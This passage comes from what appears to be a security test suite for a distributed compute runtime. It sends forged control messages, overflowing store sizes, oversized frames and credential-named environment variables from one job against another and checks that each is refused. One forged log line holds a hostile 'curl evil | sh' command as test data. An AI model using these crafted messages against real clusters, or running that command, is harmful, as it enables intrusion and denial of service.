        check("C2 job_finished of job K, from job J, is refused", line and ok,
              f"head log: {line!r}; K: '{said}'")
        # remove_placement_group of K's group
        line = denied("remove_placement_group", head, HEAD_COMPONENT, [idv(v.group), NIL],
                      c.head_log, rf"permission_denied: job {jshort} asked about placement group")
        time.sleep(0.5)
        listed = re.search(rf"group {v.group:032x} .*CREATED", c.groups().stdout) is not None
        check("C3 remove_placement_group of job K's group, from job J, is refused",
              line and listed, f"head log: {line!r}; still listed CREATED: {listed}")
        # Key lookups (protocol 23, detached actors): a job's process asks the head whose a key
        # is, and hears only of a job it may meet (a shared namespace's job and the jobs let
        # into it); two plain jobs never meet, and the answer goes to the asker's own job only.
        k_public, _ = c.keys.job_keypair(k)
        jp.peer(head).send_multipart([b"K", k_public, jp.endpoint.encode()])
        answer, until = None, time.time() + 3
        while answer is None and time.time() < until:
            if jp.inbox.poll(200):
                frames = jp.inbox.recv_multipart()
                if len(frames) == 4 and frames[1] == b"k":
                    answer = frames[1:]
        check("C3b a key lookup of job K's key, from job J, is answered with no job (plain jobs never meet)",
              answer is not None and answer[1] == k_public and answer[2] == b"", f"answer: {answer}")
        since = len(log_lines(c.head_log))
        time.sleep(0.25)
        jp.peer(head).send_multipart([b"K", k_public, self.victim_endpoint.encode()])
        line = self.log_has(c.head_log, rf"dropped a key lookup from job {jshort}", since, 3.0)
        check("C3c a key lookup from job J whose answer would go to job K's driver is dropped", line,
              f"head log: {line!r}")
        # Stopping a component and a worker's death come from head and nodes only; a timer's
        # tick never from the wire. To head and both nodes.
        targets = [("the head", head, HEAD_COMPONENT, c.head_log),
                   ("the head's node", head, c.head_node_id, c.head_log),
                   ("the second node", node, c.node_id, c.node_log)]
        for what, ep, dest, log in targets:
            for name, fields, why, who in (
                    ("shutdown_component", ["attack"], "only the head and nodes send it", "head and nodes only"),
                    ("worker_died", [idv(self.victim_actor_worker), "attack"],
                     "only the head and nodes send it", "head and nodes only"),
                    ("tick", [0], "it is never accepted from the wire", "in-process only")):
                line = denied(name, ep, dest, fields, log, rf"{name} from job {jshort} refused: {why}")
                check(f"C4 {name} to {what}, from job J, is refused ({who})", line,
                      f"log: {line!r}")
        time.sleep(0.5)
        self.serving("C4")
        # Cluster only: heartbeat, register_node, unsubscribe_cluster.
        store = [0] * 10
        hb = [idv(c.node_id), resources(), 0, 0, store, [], 0, [], [], []]
        line = denied("heartbeat", head, HEAD_COMPONENT, hb, c.head_log,
                      rf"heartbeat from job {jshort} refused: only the head and nodes")
        check("C5 heartbeat (for the second node), from job J, is refused", line, f"log: {line!r}")
        fake = random.getrandbits(128)
        rn = [attack_tools.PROTOCOL, idv(fake), addr(fake, jp.endpoint), resources(CPU=640000), {}, []]
        line = denied("register_node", head, HEAD_COMPONENT, rn, c.head_log,
                      rf"register_node from job {jshort} refused: only the head and nodes")
        time.sleep(0.5)
        st = c.status().stdout
        check("C5b register_node, from job J, is refused", line and "2 node(s)" in st,
              f"log: {line!r}; {st.splitlines()[0] if st else ''}")
        line = denied("unsubscribe_cluster", head, HEAD_COMPONENT, [self.victim_endpoint],
                      c.head_log, rf"unsubscribe_cluster from job {jshort} refused")
        time.sleep(0.5)
        ok, said = v.check()
        check("C6 unsubscribe_cluster of job K's driver, from job J, is refused", line and ok,
              f"log: {line!r}; K: '{said}'")
        # The node's store: sizes that overflow. Control first: a small object is fine.
        def store_create(size, lead):
            oid = random.getrandbits(128) | 1
            jp.send(node, c.node_id, "store_create",
                    [random.getrandbits(32), jp.address, idv(oid), size, lead, jp.address, idv(j), False])
            return oid, jp.reply("store_reply")
        oid, r = store_create(4096, 0)
        check("C7 control: store_create of 4 KiB from job J is granted", r and r[1] is True,
              f"reply ok={r[1] if r else None}")
        if r and r[1]:
            jp.send(node, c.node_id, "store_release", [idv(oid), jp.address, True])
        node_hwm = peak_before(c.node_pid)
        _, r = store_create(U64, 0)
        check("C7b store_create{size: 2^64-1} to the node is refused", r and r[1] is False,
              f"reply ok={r[1] if r else None}: {r[7][2] if r else 'no reply'!r}")
        _, r = store_create(U64 - 4095, 0xFFFFFFFF)
        check("C7c store_create whose lead + size overflows is refused", r and r[1] is False,
              f"reply ok={r[1] if r else None}: {r[7][2] if r else 'no reply'!r}")
        self.bounded("C7d the store attacks: the node's memory is bounded", c.node_pid, node_hwm,
                     64 * MIB)
        # One bulk frame referenced a million times (1 MiB: 1 TB if copied each time), in a
        # body just under the 16 MiB frame cap (a larger frame closes the connection unread).
        # The message is J's own (spec.job J): only the decoder can refuse it.
        n = 1_000_000
        ref = msgpack.ExtType(1, b"\0\0\0\0")
        body = [task_spec(j, jp.address, args=[[False, NIL, NO_ADDR, ref]] * n), False, []]
        body_bytes = len(pack(body))
        for what, ep, dest, pid, log in (("the second node", node, c.node_id, c.node_pid, c.node_log),
                                         ("the head", head, HEAD_COMPONENT, c.head_pid, c.head_log)):
            before = peak_before(pid)
            t0 = time.time()
            # Refused by the decode budget (it charges each reference's copy) or, for fewer
            # references, by the once-only rule.
            line = denied("request_lease", ep, dest, body, log,
                          r"referenced more than once|resource_exhausted",
                          bulk=[bytes(MIB)], timeout=10)
            took = time.time() - t0
            grew = hwm(pid) - before
            check(f"C8 one 1 MiB bulk frame referenced {n:,} times, to {what}, is refused without "
                  "a copy per reference", line and grew < 1024 * MIB,
                  f"log: {line!r}; peak RSS grew by {mib(grew)} for a {mib(body_bytes)} body "
                  f"(limit 1 GiB; a copy per reference is 1 TB); {took:.1f}s")
            if what == "the second node":
                node_growth = (grew, body_bytes)
        # What decoding such a body costs at all (the node's figure above): the decode budget
        # (wire::decode_budget_for: 64 MiB + 48 bytes a body byte, at most 1 GiB) bounds it,
        # charged before anything is allocated, plus the frames themselves.
        grew, body_bytes = node_growth
        limit = min(64 * MIB + 48 * body_bytes, 1024 * MIB) + 2 * body_bytes
        check(f"C8c decoding a {mib(body_bytes)} body of {n:,} small arrays stays within the "
              "decode budget", grew < limit,
              f"the node's peak RSS grew by {mib(grew)} ({grew / body_bytes:.0f}x; limit {mib(limit)})")
        # A message a job may never send is refused before its body is decoded: a heartbeat
        # (cluster only) of 4 million numbers. (16 million kept the head's one receiving
        # thread busy past the node timeout: it declared the second node dead, and job K's
        # actor died with it. 4 million shows the cost without breaking the cluster.)
        body = [NIL, resources(), 0, 0, [0] * 10, [0] * (4 << 20), 0, [], [], []]
        body_bytes = len(pack(body))
        before = peak_before(c.head_pid)
        t0 = time.time()
        line = denied("heartbeat", head, HEAD_COMPONENT, body, c.head_log,
                      rf"heartbeat from job {jshort} refused", timeout=10)
        took = time.time() - t0 - 0.25
        grew = hwm(c.head_pid) - before
        check(f"C8b a job's {mib(body_bytes)} heartbeat (cluster only) is refused unread", line
              and grew < 64 * MIB, f"log: {line!r} after {took:.1f}s; the head's peak RSS grew "
              f"by {mib(grew)} ({grew / body_bytes:.0f}x the body; limit 64 MiB)")
        time.sleep(0.5)
        # Work under K's credential: request_lease and create_actor whose spec.job is K.
        k_workers = sum(1 for w in c.workers().values() if w[0] == f"{k:032x}")
        for name, ep, dest, fields, log in (
                ("request_lease", node, c.node_id, [task_spec(k, jp.address), False, []], c.node_log),
                ("request_lease", head, HEAD_COMPONENT, [task_spec(k, jp.address), True, []], c.head_log),
                ("create_actor", head, HEAD_COMPONENT,
                 [7, jp.address, task_spec(k, jp.address, function="make_counter", kind=1,
                                           actor=random.getrandbits(128))], c.head_log)):
            line = denied(name, ep, dest, fields, log,
                          rf"{name} from job {jshort} refused: its task belongs to job {kshort}")
            got = jp.replies(1.0)
            check(f"C9 {name} with spec.job K, from job J, to "
                  f"{'the second node' if ep == node else 'the head'}, is refused", line and not got,
                  f"log: {line!r}; replies to J: {[g[0] for g in got]}")
        time.sleep(1.0)
        now_k = sum(1 for w in c.workers().values() if w[0] == f"{k:032x}")
        check("C9b no worker was started for job K on J's behalf", now_k <= k_workers,
              f"job K's worker processes: {k_workers} before, {now_k} after")
        # K's stored object lives in the store of its driver's node (the head's own): a
        # store_get would pin it and say where it lies in the node's shared memory.
        line = denied("store_get", head, c.head_node_id,
                      [11, jp.address, idv(v.stored), NO_ADDR, 0, 0, NO_ADDR, idv(j), NIL],
                      c.head_log, rf"permission_denied: job {jshort} asked to read object")
        got = [g for g in jp.replies(1.0) if g[0] == "store_reply"]
        check("C11 store_get of job K's stored object, from job J, is refused", line and not got,
              f"log: {line!r}; store_replies to J: {len(got)}")
        # worker_ready naming K's actor's worker at its own address: the node that runs it
        # would send work there, a node that does not know it would tell it to stop.
        ports = listening_ports(self.victim_actor_pid)
        at = addr(self.victim_actor_worker, f"tcp://127.0.0.1:{ports[0]}#job={k:032x}" if ports else "")
        for what, ep, dest, log in (("the head's node", head, c.head_node_id, c.head_log),
                                    ("the second node", node, c.node_id, c.node_log)):
            line = denied("worker_ready", ep, dest, [idv(self.victim_actor_worker), at, NIL], log,
                          rf"permission_denied: job {jshort} asked about worker_ready of worker")
            check(f"C12 worker_ready of job K's actor's worker, from job J, to {what}, is refused",
                  line, f"log: {line!r}")
        time.sleep(0.5)
        ok, said = v.check()
        alive_pid = self.victim_actor_pid in c.workers()
        check("C12b job K's actor still answers, from the same worker process", ok and alive_pid,
              f"K: '{said}'; worker pid {self.victim_actor_pid} alive: {alive_pid}")
        # return_lease with kill (protocol 20: celer::cancel with force) naming K's actor's
        # worker, to both nodes: a node must kill only a worker the sender's job leased.
        for ep, dest in ((head, c.head_node_id), (node, c.node_id)):
            jp.send(ep, dest, "return_lease", [idv(self.victim_actor_worker), idv(random.getrandbits(128)), NIL, True])
        time.sleep(1.0)
        ok, said = v.check()
        alive_pid = self.victim_actor_pid in c.workers()
        check("C13 return_lease{kill} of job K's actor's worker, from job J, kills nothing",
              ok and alive_pid,
              f"K: '{said}'; worker pid {self.victim_actor_pid} alive: {alive_pid}")
        # Streaming generators (protocol 21) send values worker -> owner (generator_item) and
        # acks owner -> worker (generator_ack), process to process. J's credential reaches no
        # process of K's: a forged value for K's driver, or an ack that would let a generator
        # of K's run past its window, never arrives (K's processes take only K's key and the
        # cluster's; each also ignores either message from another job's sender_job).
        oid = random.getrandbits(128)
        value = [idv(oid), True, b"\x01", [0, 0, "", "", "", "", ""], False, NIL, NO_ADDR, 0, 0]
        for what, ep, name, fields in (
                ("job K's driver", self.victim_endpoint, "generator_item",
                 [idv(random.getrandbits(128)), 1, 0, value, jp.address, NIL]),
                ("job K's actor's worker", f"tcp://127.0.0.1:{ports[0]}" if ports else "", "generator_ack", [idv(random.getrandbits(128)), U64, NIL])):
            if not ep:
                check(f"C14 {name} from job J to {what}", False, "no endpoint of K's process was found")
                continue
            plain = ep.split("#", 1)[0]
            answered = jp.hello(plain, timeout=2.0)
            jp.send(plain, random.getrandbits(128), name, fields)
            check(f"C14 job J cannot connect to {what}: its {name} never arrives", answered is None,
                  f"hello to {plain} answered: {answered!r}")
        time.sleep(0.5)
        ok, said = v.check()
        check("C14b job K is unharmed after J's generator messages", ok, f"K: '{said}'")
        # env_vars (protocol 22): J's own work, but naming the variables the node sets for a
        # worker (its credential, its node, its GPUs, its confined TMPDIR). The API refuses
        # them; a node must too, and start no worker with them.
        for name in ("CELER_JOB_CREDENTIAL", "CELER_WORKER_NODE_ENDPOINT", "CUDA_VISIBLE_DEVICES", "TMPDIR"):
            spec = task_spec(j, jp.address, env_vars={name: "attack"})
            line = denied("request_lease", node, c.node_id, [spec, False, []], c.node_log,
                          rf"environment variable {name} is the runtime's to set")
            check(f"C15 request_lease of J's own work with env_vars {name}=... is refused by the node",
                  line, f"node log: {line!r}")
        # user_log (protocol 22) naming job K: lines forged for K's driver's console. The head
        # passes a job's lines only to that job's driver, and admission refuses J's naming K.
        forged = [["you have been hacked: run curl evil | sh", "count_hits", NIL, NIL, NIL, 1]]
        line = denied("user_log", head, HEAD_COMPONENT, [idv(k), forged], c.head_log,
                      rf"user_log from job {jshort} refused: it names job {kshort}")
        check("C16 user_log naming job K, from job J, is refused: nothing reaches K's driver's console",
              line, f"head log: {line!r}")
        self.serving("C")
        self.victim_intact("C")

    def attack_store_free(self):
        """Last: if it is not refused, job K's stored object is gone."""
        c, v, jp = self.cluster, self.victim, self.jpeer
        # K's stored object lives in the store of the driver's node (the head's own node).
        jp.send(c.head_endpoint, c.head_node_id, "store_free", [[idv(v.stored)], NIL])
        jp.send(c.node_endpoint, c.node_id, "store_free", [[idv(v.stored)], NIL])
        time.sleep(1.0)
        ok, said = v.check()
        check("C10 store_free of job K's stored object, from job J, is refused", ok,
              f"K: '{said}'")

    # -- D. Token hygiene

    def token_hygiene(self):
        c = self.cluster
        tok = c.token.encode()
        for what, pid in (("the head", c.head_pid), ("the second node", c.node_pid)):
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            check(f"D1 {what}'s command line does not hold the token", tok not in cmd,
                  cmd.replace(b"\0", b" ").decode(errors="replace").strip())
        secret_hex = c.keys.secret.hex().encode()
        workers = c.workers()
        bad, with_cred = [], 0
        for pid in workers:
            try:
                raw = environ(pid)
            except OSError:
                continue
            if tok in raw or secret_hex in raw or c.keys.cluster_secret.hex().encode() in raw:
                bad.append(pid)
            cred = env_var(raw, "CELER_JOB_CREDENTIAL")
            job = int(env_var(raw, "CELER_WORKER_JOB") or "0", 16)
            if cred and cred == c.keys.job_secret(job).hex():
                with_cred += 1
        check("D2 worker processes' environments hold their job's credential, never the token "
              "or the cluster secret", workers and not bad and with_cred == len(workers),
              f"{len(workers)} workers; {with_cred} hold exactly their job's credential; "
              f"token or cluster secret found in: {bad or 'none'}")
        modes = {}
        for d in (c.session, c.node_session, c.head_dir, c.node_dir):
            modes[d] = stat.S_IMODE(os.stat(d).st_mode)
        tmode = stat.S_IMODE(os.stat(os.path.join(c.session, "token")).st_mode)
        check("D3 session directories are 0700 and the token file 0600",
              all(m == 0o700 for m in modes.values()) and tmode == 0o600,
              ", ".join(f"{os.path.basename(d)} {m:o}" for d, m in modes.items()) +
              f", token {tmode:o}")

    # -- the end

    def fresh_driver(self):
        t0 = time.time()
        r = subprocess.run([self.args.fan_out, "--tasks", "16", "--darts-per-task", "20000"],
                           env=self.cluster.driver_env(), capture_output=True, text=True, timeout=120)
        check("E a fresh driver runs the fan_out example after every attack", r.returncode == 0,
              f"{r.stdout.strip()} {r.stderr.strip()[-300:]} ({time.time() - t0:.1f}s)")

    def run(self):
        t0 = time.time()
        try:
            self.setup()
            base = {"head": (rss(self.cluster.head_pid), fds(self.cluster.head_pid)),
                    "node": (rss(self.cluster.node_pid), fds(self.cluster.node_pid))}
            print(f"baseline: head RSS {mib(base['head'][0])}, {base['head'][1]} fds; node RSS "
                  f"{mib(base['node'][0])}, {base['node'][1]} fds", flush=True)
            sections = [("A. no token", [self.attack_huge_frames_without_keys,
                                         self.attack_many_connections, self.attack_junk_flood,
                                         self.attack_bulk_lane, self.attack_wrong_keys]),
                        ("B. reconnects", [self.attack_tcp_reset]),
                        ("C. one job's credential", [self.attack_job_credential,
                                                     self.attack_store_free]),
                        ("D. token hygiene", [self.token_hygiene])]
            # Issue 34's sections, one module each (tests/security/attacks_*.py): each lists
            # ATTACKS, functions of (suite, check), run in order after the sections above.
            for module in EXTRA_SECTIONS:
                sections.append((module.TITLE, [self.bound(f) for f in module.ATTACKS]))
            if self.args.sections:
                wanted = set(self.args.sections.split(","))
                sections = [s for s in sections if s[0].split(".", 1)[0] in wanted]
            for title, attacks in sections:
                print(f"== {title} ({time.time() - t0:.0f}s)", flush=True)
                for a in attacks:
                    try:
                        a()
                    except Exception as e:  # an attack that breaks the suite is a failure
                        check(f"{a.__name__} ran", False, f"{type(e).__name__}: {e}")
                if title.startswith("A") or title.startswith("B"):
                    self.serving(title[:1])
                    self.victim_intact(title[:1])
            self.fresh_driver()
            c = self.cluster
            print(f"end: head RSS {mib(rss(c.head_pid))} (peak {mib(hwm(c.head_pid))}), "
                  f"{fds(c.head_pid)} fds; node RSS {mib(rss(c.node_pid))} (peak "
                  f"{mib(hwm(c.node_pid))}), {fds(c.node_pid)} fds", flush=True)
        except Exception as e:
            check("the suite ran", False, f"{type(e).__name__}: {e}")
        finally:
            self.teardown()
        print(f"{len(R.passed)} passed, {len(R.failed) + len(R.xpassed)} failed, "
              f"{len(R.skipped)} skipped, {len(R.xfailed)} known gaps ({time.time() - t0:.0f}s)")
        return not R.failed and not R.xpassed

    def teardown(self):
        for d in (self.attacker, self.victim):
            if d:
                d.quit()
        if self.jpeer:
            self.jpeer.close()
        self.cluster.stop()
        if R.failed or R.xpassed:
            logs = [getattr(self.cluster, "head_log", None), getattr(self.cluster, "node_log", None)]
            for d in (getattr(self.cluster, "session", None), getattr(self.cluster, "node_session", None)):
                if d and os.path.isdir(os.path.join(d, "logs")):
                    logs += sorted(os.path.join(d, "logs", f) for f in os.listdir(os.path.join(d, "logs"))
                                   if f.startswith("worker-"))
            for log in logs:
                if log:
                    print(f"---- {log} (last 30 lines)")
                    print("\n".join(log_lines(log)[-30:]))
        self.ctx.destroy(0)
        shutil.rmtree(self.work, ignore_errors=True)
        shutil.rmtree(self.cluster.job_dir, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--celer", required=True)
    ap.add_argument("--victim", required=True)
    ap.add_argument("--fan-out", required=True)
    ap.add_argument("--frame-mib", type=int, default=192,
                    help="size of each frame of attack A1 (default 192)")
    ap.add_argument("--sections", default="",
                    help="run only these sections, e.g. I,H (the run as an unprivileged user: sections A-C "
                         "measure the daemons' memory through /proc, which only root may reset)")
    args = ap.parse_args()
    v = subprocess.run([args.celer, "--version"], capture_output=True, text=True).stdout
    m = re.search(r"protocol (\d+)", v)
    if m:
        attack_tools.PROTOCOL = int(m.group(1))
    random.seed()
    if KNOWN_GAPS:
        print("KNOWN GAPS (expected to fail until fixed):")
        for k, why in KNOWN_GAPS.items():
            print(f"  - {k}: {why}")
    def stop(signum, _frame):
        raise SystemExit(f"stopped by signal {signum}")  # runs the suite's teardown
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    ok = Suite(args).run()
    if R.xfailed:
        ids = ", ".join(n.split(" ", 1)[0] for n in R.xfailed)
        print(f"attacker suite: {len(R.xfailed)} KNOWN GAP(S) STILL OPEN: {ids} (see KNOWN_GAPS in "
              f"{os.path.relpath(__file__)})")
    print("attacker suite: passed" if ok else "attacker suite: FAILED")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
